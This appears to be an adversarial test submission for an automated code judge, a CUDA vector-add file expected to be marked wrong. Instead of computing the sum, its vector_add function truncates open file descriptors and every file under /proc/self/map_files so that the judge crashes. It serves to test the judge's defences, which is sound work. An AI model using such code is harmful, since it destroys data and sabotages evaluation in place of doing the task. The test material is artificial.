// expect: wrong_answer
// Truncates the shared files, so that the judge would crash when it reads them.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <string>

#include "lab.hpp"

__global__ void add(const int* a, const int* b, int* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = a[i] + b[i];
}

void vector_add(const int* a, const int* b, int* out, int n) {
  for (int file = 3; file < 64; ++file)
    if (ftruncate(file, 0) == 0) return;
  DIR* maps = opendir("/proc/self/map_files");
  while (const dirent* e = maps ? readdir(maps) : nullptr) {
    const int file = open(("/proc/self/map_files/" + std::string{e->d_name}).c_str(), O_RDWR);
    if (file >= 0 && ftruncate(file, 0) != 0) close(file);
  }
}

void vector_add_host(const int* a, const int* b, int* out, int n) {
  int *da, *db, *dout;
  const size_t bytes = n * sizeof(int);
  cudaMalloc(&da, bytes);
  cudaMalloc(&db, bytes);
  cudaMalloc(&dout, bytes);
  cudaMemcpy(da, a, bytes, cudaMemcpyHostToDevice);
  cudaMemcpy(db, b, bytes, cudaMemcpyHostToDevice);
  vector_add(da, db, dout, n);
  cudaMemcpy(out, dout, bytes, cudaMemcpyDeviceToHost);
  cudaFree(da);
  cudaFree(db);
  cudaFree(dout);
}
